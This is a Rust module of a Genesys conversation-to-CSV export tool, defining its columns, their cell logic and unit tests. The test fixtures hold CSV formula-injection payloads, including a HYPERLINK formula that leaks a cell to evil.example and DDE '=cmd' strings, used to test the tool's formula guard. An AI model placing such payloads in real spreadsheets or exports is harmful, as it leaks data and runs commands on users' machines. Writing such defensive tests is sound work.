//! The CSV column catalogue: every column `--columns` may pick, with its description and the
//! function that computes its cell from a parsed conversation.
//!
//! Pure and table-driven: `CATALOGUE` is the one list of columns, in the order `--columns
//! list` prints them and the README's schema table documents them; `DEFAULT` names the twelve
//! columns an export without `--columns` writes, in their historical order. A cell is text,
//! a sum of session metrics, or the names of ids resolved through a bulk lookup (the lookup
//! itself is the driver's; here names arrive through a function). Multi-valued cells join the
//! distinct values with `;` in first-seen order: participants, then sessions, then segments,
//! as the API lists them. Name cells are positional: the n-th name is that of the n-th id of
//! the matching id column, empty where the name is unknown. A column marked `free_text` holds
//! text people typed (names, tags): its cells go through the formula guard (`formula.rs`)
//! when the rows are written; ids, times, numbers and phone numbers are never marked.

use time::OffsetDateTime;

use crate::api::Lookup;
use crate::formula::Formulas;
use crate::record::{Segment, Session, View};
#[cfg(test)]
use crate::tz;
use crate::tz::Zone;

/// Joins the values of a multi-valued cell.
pub const SEPARATOR: &str = ";";

/// Resolves an id to its name for a lookup, where known.
pub type NameOf<'a> = &'a dyn Fn(Lookup, &str) -> Option<String>;

/// The ids a name column names, in first-seen order.
pub type IdsOf = for<'c> fn(View<'c>) -> Vec<&'c str>;

/// How a column's cell is computed.
#[derive(Clone, Copy, Debug)]
pub enum Cell {
    /// Text read from the conversation.
    Text(fn(View) -> String),
    /// The sum of the `value`s of every session metric of this name, over all participants;
    /// empty when no session carries the metric.
    Metric(&'static str),
    /// The names of the ids `IdsOf` lists, resolved through the lookup, position by position.
    Names(Lookup, IdsOf),
    /// Text read from the conversation in the export's zone (`--tz`).
    Local(fn(View, &Zone) -> String),
}

/// One column of the catalogue.
#[derive(Debug)]
pub struct Column {
    pub name: &'static str,
    /// Where the cell comes from, one line.
    pub description: &'static str,
    pub cell: Cell,
    /// Text people typed (a name, a tag): guarded against formulas unless
    /// `--no-formula-guard`. Ids, times, numbers, enums and phone numbers are not.
    pub free_text: bool,
    /// Whether the cell reads a lenient field of the record (see `record.rs`): a run whose
    /// columns read none reads each conversation for its shape alone (`Reading::Shape`).
    pub lenient: bool,
}

impl Column {
    /// The column's cell for a conversation, its local times in UTC.
    #[cfg(test)]
    pub fn cell(&self, conversation: View, name_of: NameOf) -> String {
        self.cell_in(conversation, name_of, &tz::UTC)
    }

    /// The column's cell for a conversation, its local times in `zone`.
    pub fn cell_in(&self, conversation: View, name_of: NameOf, zone: &Zone) -> String {
        match self.cell {
            Cell::Text(text) => text(conversation),
            Cell::Local(text) => text(conversation, zone),
            Cell::Metric(metric) => metric_sum(conversation, metric)
                .map(|sum| sum.to_string())
                .unwrap_or_default(),
            Cell::Names(lookup, ids) => ids(conversation)
                .iter()
                .map(|id| match lookup.fixed_name(id) {
                    Some(name) => name.to_string(),
                    None => name_of(lookup, id).unwrap_or_default(),
                })
                .collect::<Vec<_>>()
                .join(SEPARATOR),
        }
    }

    /// The column's cell as a CSV file writes it: guarded against formulas when the column is
    /// free text and `formulas` says so.
    pub fn csv_cell(
        &self,
        conversation: View,
        name_of: NameOf,
        formulas: Formulas,
        zone: &Zone,
    ) -> String {
        let cell = self.cell_in(conversation, name_of, zone);
        match self.free_text {
            true => formulas.apply(cell),
            false => cell,
        }
    }

    /// The lookup the column needs, and the ids it names.
    pub fn lookup(&self) -> Option<(Lookup, IdsOf)> {
        match self.cell {
            Cell::Names(lookup, ids) => Some((lookup, ids)),
            _ => None,
        }
    }
}

/// The columns an export writes without `--columns`, in this order.
pub const DEFAULT: [&str; 12] = [
    "conversation_id",
    "conversation_start",
    "conversation_end",
    "originating_direction",
    "media_types",
    "queue_ids",
    "queue_names",
    "user_ids",
    "ani",
    "dnis",
    "wrap_up_codes",
    "division_ids",
];

/// The column whose cells a resumed export reads back.
pub const ID_COLUMN: &str = "conversation_id";

const fn text(name: &'static str, description: &'static str, f: fn(View) -> String) -> Column {
    Column {
        name,
        description,
        cell: Cell::Text(f),
        free_text: false,
        lenient: false,
    }
}

/// `column`, its cell reading a lenient field.
const fn lenient(column: Column) -> Column {
    Column {
        lenient: true,
        ..column
    }
}

/// A text column whose cells are free text (see `Column::free_text`).
const fn free_text(name: &'static str, description: &'static str, f: fn(View) -> String) -> Column {
    Column {
        free_text: true,
        ..text(name, description, f)
    }
}

const fn local(
    name: &'static str,
    description: &'static str,
    f: fn(View, &Zone) -> String,
) -> Column {
    Column {
        name,
        description,
        cell: Cell::Local(f),
        free_text: false,
        lenient: false,
    }
}

const fn metric(name: &'static str, description: &'static str, metric: &'static str) -> Column {
    Column {
        name,
        description,
        cell: Cell::Metric(metric),
        free_text: false,
        lenient: true,
    }
}

const fn names(
    name: &'static str,
    description: &'static str,
    lookup: Lookup,
    ids: IdsOf,
) -> Column {
    Column {
        name,
        description,
        cell: Cell::Names(lookup, ids),
        // Names are typed by the org's administrators: free text.
        free_text: true,
        lenient: false,
    }
}

/// Every column, in the order `--columns list` prints them.
pub const CATALOGUE: [Column; 32] = [
    text("conversation_id", "conversationId", |c| c.conversation_id.to_string()),
    text("conversation_start", "conversationStart, UTC, as the API gives it", |c| {
        c.conversation_start.to_string()
    }),
    text("conversation_end", "conversationEnd; empty while in progress", |c| {
        c.conversation_end.as_deref().unwrap_or_default().to_string()
    }),
    text("originating_direction", "originatingDirection (inbound or outbound)", |c| {
        c.originating_direction.as_deref().unwrap_or_default().to_string()
    }),
    text("media_types", "distinct sessions' mediaType, all participants", |c| {
        join(session_values(c, |s| s.media_type.as_deref()))
    }),
    text("queue_ids", "distinct segments' queueId, all participants", |c| {
        join(queue_ids(c))
    }),
    names(
        "queue_names",
        "names of queue_ids (GET /api/v2/routing/queues), position by position",
        Lookup::Queues,
        queue_ids,
    ),
    text("user_ids", "distinct participants' userId", |c| join(user_ids(c))),
    text("ani", "distinct sessions' ani", |c| {
        join(session_values(c, |s| s.ani.as_deref()))
    }),
    text("dnis", "distinct sessions' dnis", |c| {
        join(session_values(c, |s| s.dnis.as_deref()))
    }),
    text("wrap_up_codes", "distinct segments' wrapUpCode ids", |c| {
        join(wrap_up_codes(c))
    }),
    text("division_ids", "distinct divisionIds", |c| {
        join(distinct(c.division_ids.iter().map(|id| Some(id.as_ref()))))
    }),
    names(
        "user_names",
        "names of user_ids (GET /api/v2/users), position by position",
        Lookup::Users,
        user_ids,
    ),
    names(
        "wrap_up_names",
        "names of wrap_up_codes (GET /api/v2/routing/wrapupcodes), position by position; a system code (ININ-…) names itself",
        Lookup::WrapUpCodes,
        wrap_up_codes,
    ),
    metric("t_talk", "sum of sessions' tTalk metrics, ms (agents talking; emitted per segment, so a leg in progress has them)", "tTalk"),
    metric("t_held", "sum of sessions' tHeld metrics, ms (customer on hold, per segment; on messaging also the agent's time on other interactions)", "tHeld"),
    metric("t_acw", "sum of sessions' tAcw metrics, ms (after-call work)", "tAcw"),
    metric("t_handle", "sum of sessions' tHandle metrics over every agent session, ms (talk + hold + after-call work, of an agent who never answered too; outbound adds dialing and contacting)", "tHandle"),
    metric("t_acd", "sum of sessions' tAcd metrics, ms (waiting in queue)", "tAcd"),
    metric("t_abandon", "sum of sessions' tAbandon metrics, ms (queue wait before abandoning)", "tAbandon"),
    metric("t_ivr", "sum of sessions' tIvr metrics, ms (in the IVR)", "tIvr"),
    metric("t_alert", "sum of sessions' tAlert metrics, ms (agents alerted)", "tAlert"),
    metric("t_answered", "sum of sessions' tAnswered metrics over every queue leg, ms (queue wait before an answer)", "tAnswered"),
    metric("n_offered", "sum of sessions' nOffered metrics (offers to a queue)", "nOffered"),
    metric("n_transfers", "sum of sessions' nTransferred metrics (transfers)", "nTransferred"),
    lenient(text("abandoned", "offered to a queue (nOffered): true when a session carries tAbandon, else false once ended; empty when never offered (outbound, internal, IVR only) or in progress; abandon rate = abandoned / offered", abandoned)),
    lenient(text("customer_disconnect_type", "distinct disconnectType of the customer's segments, the customer leg's view (peer: the agent or system hung up; endpoint, client: the customer)", |c| {
        let customers = c.participants().iter().filter(|p| p.purpose.as_deref() == Some("customer"));
        let segments = customers.flat_map(|p| c.sessions(p)).flat_map(|s| c.segments(s));
        join(distinct(segments.map(|s| s.more().disconnect_type.as_deref())))
    })),
    lenient(free_text("external_tag", "externalTag", |c| c.external_tag.as_deref().unwrap_or_default().to_string())),
    lenient(text("conversation_initiator", "conversationInitiator: the purpose of the participant who started a message conversation; set for messaging only", |c| {
        c.conversation_initiator.as_deref().unwrap_or_default().to_string()
    })),
    text("min_mos", "mediaStatsMinConversationMos as the API writes it (voice quality, 1 to 5); empty when absent", |c| {
        c.media_stats_min_conversation_mos.as_deref().unwrap_or_default().to_string()
    }),
    local("conversation_start_local", "conversationStart in the --tz zone, RFC 3339 with its offset and milliseconds", |c, zone| {
        c.start().and_then(|t| local_timestamp(zone, t)).unwrap_or_default()
    }),
    local("conversation_date_local", "the date of conversationStart in the --tz zone (YYYY-MM-DD)", |c, zone| {
        let date = c.start().and_then(|t| zone.to_local(t)).map(|t| t.date());
        date.map(|d| format!("{:04}-{:02}-{:02}", d.year(), u8::from(d.month()), d.day()))
            .unwrap_or_default()
    }),
];

/// An instant in `zone`, RFC 3339 with its offset and milliseconds as the API writes them:
/// `2026-03-29T03:12:03.512+02:00`; `None` past the calendar.
pub fn local_timestamp(zone: &Zone, t: OffsetDateTime) -> Option<String> {
    let format = time::macros::format_description!(
        "[year]-[month]-[day]T[hour]:[minute]:[second].[subsecond digits:3][offset_hour sign:mandatory]:[offset_minute]"
    );
    zone.to_local(t)?.format(&format).ok()
}

/// The catalogue column of that name.
pub fn find(name: &str) -> Option<&'static Column> {
    CATALOGUE.iter().find(|column| column.name == name)
}

/// The default columns, in their order.
pub fn default_columns() -> Vec<&'static Column> {
    DEFAULT.iter().filter_map(|name| find(name)).collect()
}

/// Parses a `--columns` list: names separated by commas, each in the catalogue, none twice.
/// The error names the offending column.
pub fn parse(list: &str) -> Result<Vec<&'static Column>, String> {
    let mut columns: Vec<&'static Column> = Vec::new();
    for name in list.split(',').map(str::trim) {
        if name.is_empty() {
            return Err(
                "--columns has an empty name: separate column names with single commas".to_string(),
            );
        }
        let Some(column) = find(name) else {
            return Err(format!(
                "--columns: unknown column '{}' (see --columns list)",
                name.chars().take(40).collect::<String>().escape_debug()
            ));
        };
        if columns.iter().any(|c| c.name == name) {
            return Err(format!(
                "--columns names {name} twice: give each column once"
            ));
        }
        columns.push(column);
    }
    Ok(columns)
}

/// What `--columns list` prints: one line per column, its name then its source.
pub fn listing() -> String {
    let width = CATALOGUE.iter().map(|c| c.name.len()).max().unwrap_or(0);
    CATALOGUE
        .iter()
        .map(|c| format!("{:width$}  {}\n", c.name, c.description))
        .collect()
}

/// The distinct non-empty values, in first-seen order. Conversations have a handful of
/// participants, so a linear scan beats hashing.
pub fn distinct<'a>(values: impl IntoIterator<Item = Option<&'a str>>) -> Vec<&'a str> {
    let mut seen = Vec::new();
    for value in values.into_iter().flatten().filter(|v| !v.is_empty()) {
        if !seen.contains(&value) {
            seen.push(value);
        }
    }
    seen
}

fn join(values: Vec<&str>) -> String {
    values.join(SEPARATOR)
}

/// The distinct values a session field takes, over all participants.
fn session_values<'a>(
    c: View<'a>,
    field: impl Fn(&'a Session<'a>) -> Option<&'a str>,
) -> Vec<&'a str> {
    distinct(c.all_sessions().map(field))
}

/// The distinct values a segment field takes, over all sessions, in first-seen order.
fn segment_values<'a>(
    c: View<'a>,
    field: impl Fn(&'a Segment<'a>) -> Option<&'a str>,
) -> Vec<&'a str> {
    distinct(c.all_segments().map(field))
}

/// The distinct queue ids a conversation touches, in first-seen order.
pub fn queue_ids(c: View<'_>) -> Vec<&str> {
    segment_values(c, |s| s.queue_id.as_deref())
}

/// The distinct user ids of the participants.
pub fn user_ids(c: View<'_>) -> Vec<&str> {
    distinct(c.participants().iter().map(|p| p.user_id.as_deref()))
}

/// The distinct wrap-up code ids of all segments.
pub fn wrap_up_codes(c: View<'_>) -> Vec<&str> {
    segment_values(c, |s| s.wrap_up_code.as_deref())
}

/// The sum of every session metric named `name`; `None` when no session carries it, or when
/// the sum leaves the range of a 64-bit integer.
pub fn metric_sum(c: View, name: &str) -> Option<i64> {
    let mut values = c
        .all_metrics()
        .filter(|m| m.name == name)
        .map(|m| m.value)
        .peekable();
    values.peek()?;
    values.try_fold(0i64, i64::checked_add)
}

/// Abandonment as Genesys counts it: only a conversation offered to a queue (`nOffered`) can
/// be abandoned, and it was when a session carries `tAbandon` (emitted on the queue's `acd`
/// participant when the customer leaves the queue). One never offered — outbound, internal,
/// IVR only — is empty, not "not abandoned", so abandoned ÷ offered is the abandon rate.
fn abandoned(c: View) -> String {
    let offered = metric_sum(c, "nOffered").is_some_and(|n| n > 0);
    let abandoned = c.all_metrics().any(|m| m.name == "tAbandon");
    match (offered, abandoned, c.conversation_end.is_some()) {
        (false, _, _) => String::new(),
        (true, true, _) => "true".to_string(),
        (true, false, true) => "false".to_string(),
        (true, false, false) => String::new(),
    }
}

/// A conversation and a name lookup for the tests of the catalogue and of the rows.
#[cfg(test)]
pub mod sample {
    use super::Lookup;

    /// The sample records of the simulator, shaped like records real orgs published.
    pub const PUBLISHED: [(&str, &str); 7] = [
        (
            "never_answered",
            include_str!("../tests/sim/samples/never_answered.json"),
        ),
        (
            "web_messaging",
            include_str!("../tests/sim/samples/web_messaging_transfers.json"),
        ),
        (
            "older_org",
            include_str!("../tests/sim/samples/older_org.json"),
        ),
        (
            "outbound",
            include_str!("../tests/sim/samples/outbound.json"),
        ),
        (
            "ivr_only",
            include_str!("../tests/sim/samples/ivr_only.json"),
        ),
        (
            "leg_in_progress",
            include_str!("../tests/sim/samples/leg_in_progress.json"),
        ),
        (
            "formulas",
            include_str!("../tests/sim/samples/formulas.json"),
        ),
    ];

    /// A conversation with every kind of value: repeats, quotes, commas, an IVR, a transfer,
    /// metrics of the wrong type and a system wrap-up code.
    pub const SAMPLE: &str = r#"{
      "conversationId": "c-1", "conversationStart": "2024-05-01T09:12:03.512Z",
      "conversationEnd": "2024-05-01T09:19:47.020Z", "originatingDirection": "inbound",
      "divisionIds": ["d-1", "d-2", "d-1"], "mediaStatsMinConversationMos": 4.38,
      "externalTag": "crm, \"7\"", "conversationInitiator": "customer",
      "participants": [
        { "purpose": "customer", "sessions": [ { "mediaType": "voice", "ani": "tel:+15551230000",
            "dnis": "tel:+18005550100", "segments": [ { "segmentType": "interact", "disconnectType": "peer" } ] } ] },
        { "purpose": "ivr", "sessions": [ { "mediaType": "voice",
            "metrics": [ { "name": "tIvr", "value": 9000, "emitDate": "x" } ],
            "segments": [ { "segmentType": "ivr" } ] } ] },
        { "purpose": "acd", "sessions": [ { "mediaType": "voice", "ani": "tel:+15551230000",
            "metrics": [ { "name": "nOffered", "value": 1 }, { "name": "tAcd", "value": 14850 } ],
            "segments": [ { "queueId": "q-1", "disconnectType": "transfer" } ] } ] },
        { "purpose": "agent", "userId": "u-1", "sessions": [ { "mediaType": "voice",
            "metrics": [ { "name": "tTalk", "value": 421000 }, { "name": "tHeld", "value": 5000 },
                         { "name": "tAcw", "value": 30500 }, { "name": "tHandle", "value": 456500 },
                         { "name": "nTransferred", "value": 1 } ],
            "segments": [ { "queueId": "q-1" }, { "queueId": "q-2", "wrapUpCode": "w-1" } ] } ] },
        { "purpose": "agent", "userId": "u-2", "sessions": [ { "mediaType": "callback",
            "metrics": [ { "name": "tTalk", "value": 1000 }, { "name": "tTalk", "value": "x" },
                         { "name": "tAcw", "value": 2.5 }, "junk" ],
            "segments": [ { "queueId": "q-2", "wrapUpCode": "ININ-WRAP-UP-TIMEOUT" } ] } ] }
      ] }"#;

    /// Names one queue, one user and one wrap-up code; every other id has no name.
    pub fn name_of(lookup: Lookup, id: &str) -> Option<String> {
        match (lookup, id) {
            (Lookup::Queues, "q-1") => Some("Support, \"Tier 2\"".into()),
            (Lookup::Users, "u-2") => Some("Zoë Groß".into()),
            (Lookup::WrapUpCodes, "w-1") => Some("Sale".into()),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::sample::{name_of, PUBLISHED, SAMPLE};
    use super::*;
    use crate::record::{Conversation, Tree};

    fn check(c: &Tree, column: &str, want: &str) {
        let got = find(column).unwrap().cell(c.view(), &name_of);
        assert_eq!(got, want, "{column}");
    }

    #[test]
    fn every_column_computes_its_cell_from_its_source() {
        let c = crate::record::unchecked(SAMPLE).unwrap();
        let c = &c;
        check(c, "conversation_id", "c-1");
        check(c, "conversation_start", "2024-05-01T09:12:03.512Z");
        check(c, "conversation_end", "2024-05-01T09:19:47.020Z");
        check(c, "originating_direction", "inbound");
        check(c, "media_types", "voice;callback");
        check(c, "queue_ids", "q-1;q-2");
        check(c, "queue_names", "Support, \"Tier 2\";");
        check(c, "user_ids", "u-1;u-2");
        check(c, "ani", "tel:+15551230000");
        check(c, "dnis", "tel:+18005550100");
        check(c, "wrap_up_codes", "w-1;ININ-WRAP-UP-TIMEOUT");
        check(c, "division_ids", "d-1;d-2");
        check(c, "user_names", ";Zoë Groß");
        check(c, "wrap_up_names", "Sale;ININ-WRAP-UP-TIMEOUT");
        check(c, "t_talk", "422000");
        check(c, "t_held", "5000");
        check(c, "t_acw", "30500");
        check(c, "t_handle", "456500");
        check(c, "t_acd", "14850");
        check(c, "t_abandon", "");
        check(c, "t_ivr", "9000");
        check(c, "t_alert", "");
        check(c, "t_answered", "");
        check(c, "n_offered", "1");
        check(c, "n_transfers", "1");
        check(c, "abandoned", "false");
        check(c, "customer_disconnect_type", "peer");
        check(c, "external_tag", "crm, \"7\"");
        check(c, "conversation_initiator", "customer");
        check(c, "min_mos", "4.38");
    }

    /// The start in the zone with that moment's offset and the API's milliseconds, and its
    /// local date, which may be another day than the UTC one; in UTC, `+00:00`.
    #[test]
    fn local_columns_read_the_start_in_the_zone() {
        let c = crate::record::unchecked(SAMPLE).unwrap();
        let in_zone =
            |column: &str, zone: &Zone| find(column).unwrap().cell_in(c.view(), &name_of, zone);
        let paris = Zone::from_posix("Europe/Paris", "CET-1CEST,M3.5.0,M10.5.0/3").unwrap();
        let sydney = Zone::from_posix("Australia/Sydney", "AEST-10AEDT,M10.1.0,M4.1.0/3").unwrap();
        let chicago = Zone::from_posix("America/Chicago", "CST6CDT,M3.2.0,M11.1.0").unwrap();
        assert_eq!(
            in_zone("conversation_start_local", &paris),
            "2024-05-01T11:12:03.512+02:00"
        );
        assert_eq!(in_zone("conversation_date_local", &paris), "2024-05-01");
        assert_eq!(
            in_zone("conversation_start_local", &sydney),
            "2024-05-01T19:12:03.512+10:00"
        );
        assert_eq!(
            in_zone("conversation_start_local", &chicago),
            "2024-05-01T04:12:03.512-05:00"
        );
        assert_eq!(
            in_zone("conversation_start_local", &tz::UTC),
            "2024-05-01T09:12:03.512+00:00"
        );
        let late_text = SAMPLE.replace("2024-05-01T09:12:03.512Z", "2024-05-01T23:30:00.000Z");
        let late = crate::record::unchecked(&late_text).unwrap();
        let cell = find("conversation_date_local")
            .unwrap()
            .cell_in(late.view(), &name_of, &paris);
        assert_eq!(cell, "2024-05-02");
        let half = Zone::fixed(time::macros::offset!(-03:30));
        assert_eq!(
            find("conversation_start_local")
                .unwrap()
                .cell_in(late.view(), &name_of, &half),
            "2024-05-01T20:00:00.000-03:30"
        );
    }

    #[test]
    fn abandonment_is_read_from_the_tabandon_metric_of_a_conversation_offered_to_a_queue() {
        let conversation = |end: &str, metrics: &str| -> Tree<'static> {
            let text = format!(
                r#"{{"conversationId":"x","conversationStart":"s"{end},"participants":[
                    {{"purpose":"acd","sessions":[{{"metrics":[{metrics}]}}]}}]}}"#
            );
            crate::record::unchecked(Box::leak(text.into_boxed_str())).unwrap()
        };
        let ended = r#","conversationEnd":"e""#;
        let offered = r#"{"name":"nOffered","value":1}"#;
        let abandon = r#"{"name":"nOffered","value":1},{"name":"tAbandon","value":7000}"#;
        check(&conversation(ended, abandon), "abandoned", "true");
        check(&conversation(ended, abandon), "t_abandon", "7000");
        check(&conversation(ended, offered), "abandoned", "false");
        check(&conversation("", offered), "abandoned", "");
        check(&conversation("", abandon), "abandoned", "true");
        // Never offered to a queue (outbound, internal, IVR only): neither abandoned nor not.
        check(&conversation(ended, ""), "abandoned", "");
        check(
            &conversation(ended, r#"{"name":"tIvr","value":9000}"#),
            "abandoned",
            "",
        );
        check(
            &conversation(ended, r#"{"name":"nOffered","value":0}"#),
            "abandoned",
            "",
        );
    }

    #[test]
    fn only_names_and_tags_are_free_text() {
        let free: Vec<&str> = CATALOGUE
            .iter()
            .filter(|c| c.free_text)
            .map(|c| c.name)
            .collect();
        assert_eq!(
            free,
            ["queue_names", "user_names", "wrap_up_names", "external_tag"]
        );
    }

    #[test]
    fn the_readme_names_exactly_the_guarded_columns() {
        let readme = include_str!("../README.md");
        let at = readme
            .find("**Formulas in names.**")
            .expect("README's formula paragraph");
        let paragraph = &readme[at..];
        let paragraph = &paragraph[..paragraph.find("\n\n").unwrap_or(paragraph.len())];
        let named: Vec<&str> = paragraph
            .split('`')
            .skip(1)
            .step_by(2)
            .filter(|word| find(word).is_some())
            .collect();
        let free: Vec<&str> = CATALOGUE
            .iter()
            .filter(|c| c.free_text)
            .map(|c| c.name)
            .collect();
        // The paragraph also names `ani` as one that is never changed.
        let guarded: Vec<&str> = named.into_iter().filter(|n| *n != "ani").collect();
        assert_eq!(guarded, free);
        assert!(paragraph.contains("`--attribute` column"), "{paragraph}");
    }

    /// The names the sample org's lookups give.
    fn published_name(_: Lookup, id: &str) -> Option<String> {
        let name = match id.strip_prefix("5a000000-0000-4000-8000-00000000")? {
            "a001" => "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
            "a002" => "Web Chat Tier 1",
            "a003" => "Web Chat Tier 2",
            "b001" => "+Mallory =cmd",
            "b002" => "Ana Ruiz",
            "b003" => "Ben Okafor",
            "c001" => "@SUM(1+1)*cmd|' /C calc'!A0",
            "c002" => "Resolved",
            _ => return None,
        };
        Some(name.to_string())
    }

    /// The non-empty cells each published shape gives, as Genesys defines the columns; every
    /// other column must be empty.
    fn published_cells(sample: &str) -> Vec<(&'static str, &'static str)> {
        let id = |n: &'static str| n;
        let mut cells = match sample {
            "never_answered" => vec![
                (
                    "conversation_id",
                    id("5a000000-0000-4000-8000-000000000001"),
                ),
                ("conversation_start", "2021-03-04T09:00:00.000Z"),
                ("conversation_end", "2021-03-04T09:06:10.000Z"),
                ("originating_direction", "inbound"),
                ("media_types", "voice"),
                ("queue_ids", "5a000000-0000-4000-8000-00000000a002"),
                ("queue_names", "Web Chat Tier 1"),
                (
                    "user_ids",
                    "5a000000-0000-4000-8000-00000000b002;5a000000-0000-4000-8000-00000000b003",
                ),
                ("ani", "tel:+3312345"),
                ("dnis", "tel:+18005550100"),
                (
                    "wrap_up_codes",
                    "ININ-WRAP-UP-TIMEOUT;5a000000-0000-4000-8000-00000000c002",
                ),
                ("user_names", "Ana Ruiz;Ben Okafor"),
                ("wrap_up_names", "ININ-WRAP-UP-TIMEOUT;Resolved"),
                ("t_talk", "300000"),
                // The agent who never answered carries after-call work and handle time.
                ("t_acw", "100000"),
                ("t_handle", "400000"),
                ("t_acd", "55000"),
                ("t_alert", "25000"),
                ("t_answered", "55000"),
                ("n_offered", "1"),
                ("abandoned", "false"),
                ("customer_disconnect_type", "endpoint"),
                ("min_mos", "4.921803743844289"),
            ],
            "web_messaging" => vec![
                ("conversation_id", "5a000000-0000-4000-8000-000000000002"),
                ("conversation_start", "2022-06-10T13:00:00.000Z"),
                ("conversation_end", "2022-06-10T15:15:00.000Z"),
                ("originating_direction", "inbound"),
                ("media_types", "message"),
                (
                    "queue_ids",
                    "5a000000-0000-4000-8000-00000000a002;5a000000-0000-4000-8000-00000000a003",
                ),
                ("queue_names", "Web Chat Tier 1;Web Chat Tier 2"),
                (
                    "user_ids",
                    "5a000000-0000-4000-8000-00000000b002;5a000000-0000-4000-8000-00000000b003",
                ),
                ("wrap_up_codes", "5a000000-0000-4000-8000-00000000c002"),
                ("user_names", "Ana Ruiz;Ben Okafor"),
                ("wrap_up_names", "Resolved"),
                ("t_talk", "1910000"),
                // 1 h 37 min on other interactions counts as held on messaging.
                ("t_held", "5820000"),
                ("t_acw", "30000"),
                ("t_handle", "7760000"),
                ("t_acd", "368000"),
                // Every queue leg that was answered: the first and the last.
                ("t_answered", "128000"),
                ("n_offered", "6"),
                ("n_transfers", "5"),
                ("abandoned", "false"),
                ("customer_disconnect_type", "peer"),
                ("conversation_initiator", "customer"),
            ],
            "older_org" => vec![
                ("conversation_id", "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx"),
                ("conversation_start", "2016-09-05T11:50:49.58Z"),
                ("media_types", "voice"),
                ("queue_ids", "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx"),
                ("user_ids", "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx"),
                ("ani", "tel:+13175551234"),
                ("dnis", "tel:+13175550000"),
                ("customer_disconnect_type", "endpoint"),
            ],
            "outbound" => vec![
                ("conversation_id", "5a000000-0000-4000-8000-000000000004"),
                ("conversation_start", "2023-01-17T16:20:00.000Z"),
                ("conversation_end", "2023-01-17T16:24:00.000Z"),
                ("originating_direction", "outbound"),
                ("media_types", "voice"),
                ("user_ids", "5a000000-0000-4000-8000-00000000b003"),
                ("ani", "tel:+18005550100"),
                ("dnis", "tel:+4915112345678"),
                ("wrap_up_codes", "5a000000-0000-4000-8000-00000000c002"),
                ("user_names", "Ben Okafor"),
                ("wrap_up_names", "Resolved"),
                ("t_talk", "225000"),
                ("t_acw", "20000"),
                // Dialing and contacting count in an outbound call's handle time.
                ("t_handle", "260000"),
                // The customer leg's view: peer, the agent hung up.
                ("customer_disconnect_type", "peer"),
                ("min_mos", "4.41"),
            ],
            "ivr_only" => vec![
                ("conversation_id", "5a000000-0000-4000-8000-000000000005"),
                ("conversation_start", "2023-05-02T07:45:00.000Z"),
                ("conversation_end", "2023-05-02T07:46:30.000Z"),
                ("originating_direction", "inbound"),
                ("media_types", "voice"),
                ("ani", "tel:+15551230009"),
                ("dnis", "tel:+18005550100"),
                ("t_ivr", "90000"),
                ("customer_disconnect_type", "endpoint"),
                ("min_mos", "4.88"),
            ],
            "leg_in_progress" => vec![
                ("conversation_id", "5a000000-0000-4000-8000-000000000006"),
                ("conversation_start", "2024-02-20T22:10:00.000Z"),
                ("originating_direction", "inbound"),
                ("media_types", "voice"),
                ("queue_ids", "5a000000-0000-4000-8000-00000000a002"),
                ("queue_names", "Web Chat Tier 1"),
                ("user_ids", "5a000000-0000-4000-8000-00000000b002"),
                ("ani", "tel:+15551230010"),
                ("dnis", "tel:+18005550100"),
                ("user_names", "Ana Ruiz"),
                // Emitted per segment: the leg in progress already has them.
                ("t_talk", "105000"),
                ("t_held", "30000"),
                ("t_acd", "18000"),
                ("t_answered", "18000"),
                ("n_offered", "1"),
            ],
            "formulas" => vec![
                ("conversation_id", "5a000000-0000-4000-8000-000000000007"),
                ("conversation_start", "2024-08-08T12:00:00.000Z"),
                ("conversation_end", "2024-08-08T12:05:00.000Z"),
                ("originating_direction", "inbound"),
                ("media_types", "voice"),
                ("queue_ids", "5a000000-0000-4000-8000-00000000a001"),
                ("user_ids", "5a000000-0000-4000-8000-00000000b001"),
                ("ani", "+3312345"),
                ("dnis", "+18005550100"),
                ("wrap_up_codes", "5a000000-0000-4000-8000-00000000c001"),
                ("t_talk", "290000"),
                ("t_acw", "5000"),
                ("t_handle", "295000"),
                ("t_acd", "9000"),
                ("t_answered", "9000"),
                ("n_offered", "1"),
                ("abandoned", "false"),
                ("customer_disconnect_type", "endpoint"),
                // Free text as the record and the lookups give it: the rows guard it.
                (
                    "queue_names",
                    "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
                ),
                ("user_names", "+Mallory =cmd"),
                ("wrap_up_names", "@SUM(1+1)*cmd|' /C calc'!A0"),
                ("external_tag", "-2+3;=cmd|' /C calc'!A0"),
            ],
            other => panic!("no cells for {other}"),
        };
        if sample != "older_org" {
            cells.push(("division_ids", "7f0b3a41-1c9e-4d2a-9b77-2f4e5d6c7a01"));
        }
        cells
    }

    /// A column not marked lenient gives the same cell from a read for the shape alone as
    /// from the whole read, on every published shape and on a record with every lenient field
    /// the catalogue reads set; each column marked lenient differs on one of them.
    #[test]
    fn only_the_columns_marked_lenient_read_lenient_fields() {
        let metrics: Vec<String> = CATALOGUE
            .iter()
            .filter_map(|c| match c.cell {
                Cell::Metric(name) => Some(format!(r#"{{"name":"{name}","value":1}}"#)),
                _ => None,
            })
            .collect();
        let every_lenient = format!(
            r#"{{"conversationId":"l","conversationStart":"2026-11-01T00:00:00Z","conversationEnd":"2026-11-01T00:01:00Z","externalTag":"tag","conversationInitiator":"customer","participants":[{{"purpose":"customer","userId":"u","sessions":[{{"mediaType":"voice","ani":"a","segments":[{{"disconnectType":"peer","queueId":"q"}}],"metrics":[{}]}}]}}]}}"#,
            metrics.join(",")
        );
        let mut texts: Vec<&str> = PUBLISHED.iter().map(|(_, text)| *text).collect();
        texts.push(&every_lenient);
        let name_of: NameOf = &|_, id| Some(id.to_string());
        for column in &CATALOGUE {
            let differs = texts.iter().any(|text| {
                let whole = Conversation::read(text).unwrap();
                let shape = Conversation::read_shape(text).unwrap();
                column.cell(whole.view(), name_of) != column.cell(shape.view(), name_of)
            });
            assert_eq!(differs, column.lenient, "{}", column.name);
        }
    }

    #[test]
    fn every_column_means_what_genesys_defines_on_published_shapes() {
        for (sample, text) in PUBLISHED {
            let raw = serde_json::value::RawValue::from_string(text.to_string()).unwrap();
            let c = Conversation::read(raw.get()).unwrap();
            let mut want = published_cells(sample);
            // Without a zone the local columns are UTC: the start in milliseconds with its
            // offset written out, and its date.
            let start = want.iter().find(|(name, _)| *name == "conversation_start");
